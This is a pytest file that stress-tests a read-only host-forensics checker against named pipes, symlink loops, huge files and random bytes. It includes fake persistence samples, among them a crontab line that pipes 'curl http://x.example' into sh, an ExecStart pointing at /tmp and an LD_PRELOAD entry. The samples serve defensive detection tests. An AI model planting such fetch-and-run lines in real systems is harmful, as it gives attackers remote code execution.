"""A host that fights back: pipes for files, loops, endless files, names and records of any bytes. Nothing hangs, all is told."""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from atttcli.field.host.check import bounded_detail
from atttcli.field.host.keys import read_key
from atttcli.field.host.logons import read_records
from atttcli.field.host.root import HostRoot
from atttcli.field.host.shortcut import read_shortcut
from atttcli.field.host.windows_files import TaskRefused, read_task
from atttcli.field.opening import NotReadable
from atttcli.field.records import host_record, read_host
from atttcli.field.strict_json import dumps
from tests.support.host_tree import PASSWD, hits, problems, process, put, rules, seen

SECONDS = 8.0


@pytest.fixture
def root(tmp_path: Path) -> Path:
    put(tmp_path, "/etc/passwd", PASSWD)
    return tmp_path


def test_pipes_sockets_and_devices_in_the_place_of_files_are_not_waited_for(root: Path) -> None:
    began = time.monotonic()
    for path in (
        "/home/lan/.ssh/authorized_keys", "/etc/crontab", "/etc/cron.d/a", "/etc/systemd/system/a.service", "/etc/hosts",
        "/etc/rc.local", "/etc/ld.so.preload", "/etc/shadow", "/etc/sudoers", "/var/log/wtmp", "/home/lan/.bashrc",
        "/etc/resolv.conf", "/etc/pam.d/x", "/etc/udev/rules.d/x.rules",
    ):  # fmt: skip
        put(root, path, "").unlink()
        os.mkfifo(root / path[1:])
    put(root, "/root/.ssh/authorized_keys", "").unlink()
    (root / "root/.ssh/authorized_keys").symlink_to("/dev/zero")
    found = seen(root)
    assert time.monotonic() - began < 60  # one that was waited for would be waited for to the end of days
    told = problems(found)
    for path in (
        "/etc/crontab",
        "/etc/hosts",
        "/etc/shadow",
        "/var/log/wtmp",
        "/etc/cron.d/a",
        "/etc/systemd/system/a.service",
    ):
        assert told[path] == "named pipe", path
    assert {subject for rule, subject in hits(found) if rule == "host.key-link"} == {
        "/home/lan/.ssh/authorized_keys", "/root/.ssh/authorized_keys",
    }  # fmt: skip


def test_links_stay_inside_the_root(root: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = put(tmp_path_factory.mktemp("outside"), "secret", "203.0.113.66 secret.gov.vn\n")
    put(root, "/etc/x", "").unlink()
    (root / "etc/hosts").symlink_to(outside)
    assert "secret" not in repr([one for one in seen(root, "hosts") if one.kind != "problem"])
    (root / "etc/hosts").unlink()
    (root / "etc/hosts").symlink_to("../../../../../../../../" + str(outside))
    assert "secret.gov.vn" not in repr(seen(root, "hosts"))
    (root / "etc/hosts").unlink()
    put(root, "/run/hosts", "203.0.113.66 inside.gov.vn\n")
    (root / "etc/hosts").symlink_to("/run/hosts")  # absolute: of the host, not of ours
    assert "inside.gov.vn" in repr(seen(root, "hosts"))


def test_loops_of_links_and_folders_end(root: Path) -> None:
    began = time.process_time()
    for name in ("etc/systemd/system", "etc/cron.d", "home/lan/.config"):
        (root / name).mkdir(parents=True)
    (root / "etc/hosts").symlink_to("hosts")
    (root / "etc/crontab").symlink_to("cron.d/../crontab")
    (root / "etc/systemd/system/a.service").symlink_to("/etc/systemd/system/a.service")
    (root / "etc/systemd/system/self").symlink_to("/etc/systemd/system")
    (root / "home/lan/.config/systemd").symlink_to("..")
    (root / "etc/cron.daily").symlink_to("/etc/cron.daily")
    found = seen(root)
    assert time.process_time() - began < SECONDS
    assert problems(found)["/etc/hosts"] == "symbolic link"
    assert problems(found)["/etc/cron.daily"] == "symbolic link"
    with pytest.raises(NotReadable):
        HostRoot(str(root)).read("/etc/crontab")


def test_files_of_a_hundred_megabytes_are_read_to_their_bound_and_that_is_told(root: Path) -> None:
    began = time.process_time()
    for path in (
        "/etc/systemd/system/a.service",
        "/etc/crontab",
        "/home/lan/.ssh/authorized_keys",
        "/etc/rc.local",
        "/home/lan/.bashrc",
    ):
        put(root, path, b"[Service]\nExecStart=/tmp/x\n* * * * * root /tmp/x\n")
        os.truncate(root / path[1:], 100 * 1024 * 1024)
    found = seen(root)
    assert time.process_time() - began < SECONDS
    told = problems(found)
    for path in ("/etc/systemd/system/a.service", "/etc/crontab", "/home/lan/.ssh/authorized_keys", "/etc/rc.local"):
        assert told[path] == "longer than the limit"
    assert "host.command-temp" in rules(found)


def test_thousands_of_lines_do_not_grow_without_end(root: Path) -> None:
    began = time.process_time()
    put(root, "/etc/crontab", "* * * * * root curl http://x.example|sh\n" * 20_000)
    put(root, "/etc/hosts", "203.0.113.1 a.gov.vn\n" * 50_000)
    put(
        root,
        "/home/lan/.ssh/authorized_keys",
        "ssh-rsa AAAA " + "x" * 900_000 + "\n" + 'command="' + "a" * 90_000 + "\n",
    )
    found = seen(root)
    assert time.process_time() - began < SECONDS
    assert problems(found)["hosts"] == "more to see than the check's limit"
    assert len(found) < 120_000


def test_records_of_any_bytes_are_told_in_lines_that_a_bundle_takes(root: Path) -> None:
    dice = random.Random(5)
    for number in range(40):
        noise = dice.randbytes(3000)
        put(root, f"/etc/cron.d/n{number}", noise)
        put(root, f"/etc/systemd/system/n{number}.service", b"[Service]\nExecStart=" + noise)
        process(root, 100 + number, f"/usr/bin/\udcff{number}", noise, environ=b"LD_PRELOAD=/x" + noise)
    for path in ("/etc/crontab", "/etc/hosts", "/etc/shadow", "/etc/group", "/var/log/wtmp", "/var/log/btmp",
                 "/etc/resolv.conf", "/proc/net/tcp", "/proc/modules", "/etc/sudoers",
                 "/home/lan/.ssh/authorized_keys", "/etc/os-release"):  # fmt: skip
        put(root, path, dice.randbytes(20_000))
    (root / "proc/self").mkdir()
    found = seen(root)
    assert len(found) > 50
    for one in found:
        read_host(dumps(host_record(one)))


def test_parsers_take_anything() -> None:
    dice = random.Random(6)
    for _ in range(3000):
        data = dice.randbytes(dice.randrange(600))
        list(read_records(data))
        read_shortcut(b"L\0\0\0" + bytes.fromhex("0114020000000000c000000000000046") + data)
        read_key(data.decode("latin-1"))
        try:
            read_task(data)
        except TaskRefused:
            pass


def test_a_detail_beyond_all_bounds_is_cut() -> None:
    huge = {f"k{number}": [["x" * 5000] * 50] * 50 for number in range(60)} | {"exe": "/a"}
    assert len(dumps(bounded_detail(huge))) < 64 * 1024
    assert bounded_detail({"exe": "/a", **huge})["exe"] == "/a"


def test_nothing_of_a_root_is_changed(root: Path) -> None:
    for path in ("/etc/crontab", "/etc/hosts", "/etc/shadow", "/home/lan/.bashrc", "/var/log/wtmp", "/etc/cron.d/a"):
        put(root, path, "x\n")
    process(root, 5, "/usr/bin/x", b"x\0")

    def picture() -> dict[str, tuple[int, int, int, int]]:
        found = {}
        for path in sorted(root.rglob("*")):
            info = path.lstat()
            found[str(path)] = (info.st_mode, info.st_size, info.st_mtime_ns, info.st_ctime_ns)
        return found

    before = picture()
    seen(root)
    assert picture() == before


WRITING = "open,openat,openat2,creat,unlink,unlinkat,rename,renameat,renameat2,mkdir,mkdirat,rmdir,link,linkat,symlink,symlinkat"
MORE = "chmod,fchmod,fchmodat,chown,fchown,fchownat,lchown,truncate,ftruncate,utimensat,ptrace,kill,tgkill,mount,process_vm_writev"


@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not there")
def test_the_system_calls_of_all_checks_only_read(tmp_path: Path) -> None:
    """On this machine's own root: no file opened to be written, nothing made, renamed, stopped or signalled."""
    code = (
        "import sys\nsys.dont_write_bytecode = True\nfrom atttcli.field.host.run import HostSettings, run_checks\n"
        "import os; os.write(1, b'BEGIN')\ncount = sum(1 for _ in run_checks(HostSettings(only=sys.argv[1:])))\n"
        "os.write(1, b'END')\n"
    )
    names = ("sockets", "systemd", "cron", "startup", "keys", "accounts", "logons", "hosts", "resolvers", "modules", "protection",
             "processes")  # fmt: skip
    log = tmp_path / "calls"
    traced = [
        "strace",
        "-f",
        "--seccomp-bpf",
        "-qq",
        "-e",
        f"trace={WRITING},{MORE},write",
        "-e",
        "signal=none",
        "-o",
        log,
    ]
    done = subprocess.run([*traced, sys.executable, "-c", code, *names], timeout=110, check=False, capture_output=True)
    if b"BEGIN" not in done.stdout:
        pytest.skip("strace may not trace here")
    assert done.stdout.endswith(b"END"), done.stderr
    lines = log.read_text(errors="replace").splitlines()
    start = next(number for number, line in enumerate(lines) if "BEGIN" in line)
    calls = [line.split(None, 1)[1] for line in lines[start + 1 :] if '"END"' not in line]
    opened = [line for line in calls if line.startswith("open")]
    assert len(opened) > 50
    assert [line for line in opened if any(flag in line for flag in ("O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC"))] == []
    assert [line for line in calls if not line.startswith("open") and not line.startswith(("+++", "---"))] == []
